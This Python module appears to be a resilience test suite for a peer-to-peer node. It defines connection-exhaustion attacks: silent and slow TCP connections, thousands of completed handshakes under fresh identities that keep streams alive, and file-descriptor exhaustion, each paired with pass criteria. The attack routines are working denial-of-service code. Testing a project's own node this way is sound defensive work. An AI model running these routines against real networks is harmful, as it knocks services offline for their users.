"""Attacks with connections alone: silent ones, slow ones, more than the victim has room for."""

from __future__ import annotations

import asyncio
from contextlib import closing
from functools import partial

from attack.remote import Connection, Target, Tcp, again, frame, lines, message
from attack.terms import Attack, Must, Victim
from stronghold_p2p.wire.yamux import Flag, FrameType

FIRST_FLIGHT = lines("/noise") + bytes((0, 32)) + bytes(range(32))

PENDING = 300
"""A victim takes 256 that have not shaken hands."""

PLACES = 4500
"""It takes 4,096 that have."""

DIALS_AT_ONCE = 64
RENEWAL = 4.0
"""Seconds after which a held connection opens another stream: the victim closes idle ones after ten."""


async def many(count: int, target: Target, *, slow: bool = False) -> None:
    """So many TCP connections that say nothing; ``slow``: or a byte of the handshake each second."""
    await asyncio.gather(*(again(partial(stay, target, slow=slow), pause=1.0) for _ in range(count)))


async def stay(target: Target, *, slow: bool) -> None:
    with closing(await Tcp.open(target)) as pipe:
        if not slow:
            await pipe.discard()
        for byte in FIRST_FLIGHT:
            await pipe.send(bytes((byte,)))
            await asyncio.sleep(1.0)


async def places(target: Target) -> None:
    """Complete handshakes, each of a new identity, until all places are taken; each place is kept."""
    dialing = asyncio.Semaphore(DIALS_AT_ONCE)
    await asyncio.gather(*(again(partial(take_place, target, dialing), pause=1.0) for _ in range(PLACES)))


async def take_place(target: Target, dialing: asyncio.Semaphore) -> None:
    async with dialing:
        connection = await Connection.dial(target)
    with closing(connection):
        half = lines(target.protocol) + message(bytes(64))[:32]
        for stream_id in range(1, 2**32, 2):
            await connection.send(frame(FrameType.DATA, Flag.SYN, stream_id, body=half))
            await asyncio.sleep(RENEWAL)


ATTACKS = (
    Attack(name="silent-connections", drive=partial(many, PENDING), must=Must(fresh=95), quick=True),
    Attack(name="slow-connections", drive=partial(many, PENDING, slow=True), must=Must(fresh=95)),
    Attack(name="all-places", drive=places, must=Must(fresh=95), setup=15.0),
    Attack(
        name="descriptors",
        drive=partial(many, 200),
        must=Must(log_lines=3),  # of two kinds, each at most once a second, and once at first
        victim=Victim(descriptors=64),
        quick=True,
    ),
)
